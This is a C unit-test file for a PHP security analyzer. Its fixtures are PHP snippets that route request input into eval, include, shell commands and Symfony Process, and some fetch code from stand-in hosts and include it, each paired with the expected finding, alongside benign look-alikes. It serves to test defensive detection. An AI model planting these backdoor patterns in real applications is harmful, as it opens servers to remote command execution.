/* The PHP analysis, generalization round train6 (branch fix6-web): the
 * causes of what the blind development set tests/eval/train6 showed missed.
 * Every snippet is written here from the technique, in spellings train6
 * does not use, with the look-alikes of real applications. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "php_expect.h"
#include "scan/php_analyze.h"

/* A callable called through ->__invoke() (or a closure's ->call()), and a
 * method the request names reaching a class's __call($name, $args). */
static void test_invoke_and_magic_call(void **state)
{
	(void)state;
	expect("<?php $run = passthru(...);\n$run->__invoke($_COOKIE['q']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $f = function ($c) { return shell_exec($c); };\n"
	       "echo $f->call(new stdClass, $_GET['w']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $k = 'exec';\n$g = Closure::fromCallable($k);\n"
	       "$g?->__invoke(getallheaders()['X-Run']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php class Bridge { function __call($fn, $a) { return "
	       "call_user_func_array($fn, $a); } }\n"
	       "$b = new Bridge; $name = $_POST['n']; $b->$name($_POST['a']);",
	       "php.dynamic_call_input", HS_SEV_HIGH);
	expect("<?php class H { public function __call($m, $p) { return $m($p[0]); } }\n"
	       "(new H)->{$_GET['m']}($_GET['p']);",
	       "php.dynamic_call_input", HS_SEV_HIGH);
	/* a router calling the action the request names on a controller that
	 * has no __call: not a finding */
	quiet("<?php class Ctl { function index() { return 'home'; } }\n"
	      "$c = new Ctl; $a = $_GET['action'] ?? 'index';\n"
	      "if (method_exists($c, $a)) echo $c->$a();");
	/* a closure's ->call() with a fixed body */
	quiet("<?php $f = function () { return $this->name; };\n"
	      "echo $f->call($user, $_GET['x']);");
}

/* Code round-tripped through a php://memory / php://temp stream or a
 * tmpfile() (read back, or included by its stream_get_meta_data() uri),
 * and code fetched from a URL written to a file that is then included. */
static void test_memory_streams_and_fetched_files(void **state)
{
	(void)state;
	expect("<?php $s = fopen('php://temp/maxmemory:65536', 'r+');\n"
	       "fputs($s, base64_decode($_POST['blob'])); fseek($s, 0);\n"
	       "$code = fread($s, 1 << 20); eval($code);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $t = tmpfile(); fwrite($t, \"<?php \" . $_SERVER['HTTP_X_DATA']);\n"
	       "$u = stream_get_meta_data($t)['uri']; include($u);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $tmp = tempnam('/tmp', 'x');\n"
	       "file_put_contents($tmp, file_get_contents('https://cdn.example.net/p.txt'));\n"
	       "require_once $tmp; unlink($tmp);",
	       "php.remote_code_exec", HS_SEV_HIGH);
	expect("<?php $h = curl_init('http://198.51.100.7/x'); curl_setopt($h, 19913, 1);\n"
	       "$f = '/dev/shm/.c'; $w = fopen($f, 'w'); fwrite($w, curl_exec($h)); fclose($w);\n"
	       "include $f;",
	       "php.remote_code_exec", HS_SEV_HIGH);
	/* a CSV built in php://temp and sent; a JSON feed cached in a file */
	quiet("<?php $h = fopen('php://temp', 'r+');\n"
	      "foreach ($rows as $r) fputcsv($h, $r); rewind($h);\n"
	      "$csv = stream_get_contents($h); header('Content-Type: text/csv'); echo $csv;");
	quiet("<?php $h = fopen('php://memory', 'w+'); fwrite($h, $_POST['csv']); rewind($h);\n"
	      "while (($row = fgetcsv($h)) !== false) { $items[] = $row; }");
	quiet("<?php $cache = sys_get_temp_dir() . '/feed.json';\n"
	      "file_put_contents($cache, file_get_contents('https://api.example.com/feed'));\n"
	      "$data = json_decode(file_get_contents($cache), true);");
	quiet("<?php $zip = download_url('https://downloads.example.org/plugin.zip');\n"
	      "$z = new ZipArchive; $z->open($zip); $z->extractTo(WP_PLUGIN_DIR); $z->close();");
}

/* A framework's decrypt() of what the client sent stays input (the
 * attacker encrypts with the stolen application key); Symfony's Process
 * runs a command line. */
static void test_framework_decrypt_and_process(void **state)
{
	(void)state;
	expect("<?php class Sync { public function __invoke(Request $r) {\n"
	       "$code = Crypt::decryptString($r->cookie('sid')); return eval($code); } }",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php Route::post('/hc', function (Request $req) {\n"
	       "assert(decrypt($req->input('t'))); });",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php use Symfony\\Component\\Process\\Process;\n"
	       "$job = Process::fromShellCommandline(request('q')); $job->mustRun();",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php use Symfony\\Component\\Process\\Process;\n"
	       "function go(Request $r) { $p = new Process(['/bin/bash', '-c', $r->get('x')]);\n"
	       "$p->run(); return $p->getOutput(); }",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* a fixed job, an argument list naming its program, a decrypted
	 * setting of the application's own */
	quiet("<?php use Symfony\\Component\\Process\\Process;\n"
	      "function go(Request $r) { $p = new Process(['git', 'log', '--oneline']);\n"
	      "$p->run(); $q = Process::fromShellCommandline('php artisan queue:work'); "
	      "$q->start(); }");
	quiet("<?php $token = decrypt(config('services.api.token'));\n"
	      "Http::withToken($token)->get('https://api.example.com/me');");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_invoke_and_magic_call),
	    cmocka_unit_test(test_memory_streams_and_fetched_files),
	    cmocka_unit_test(test_framework_decrypt_and_process),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
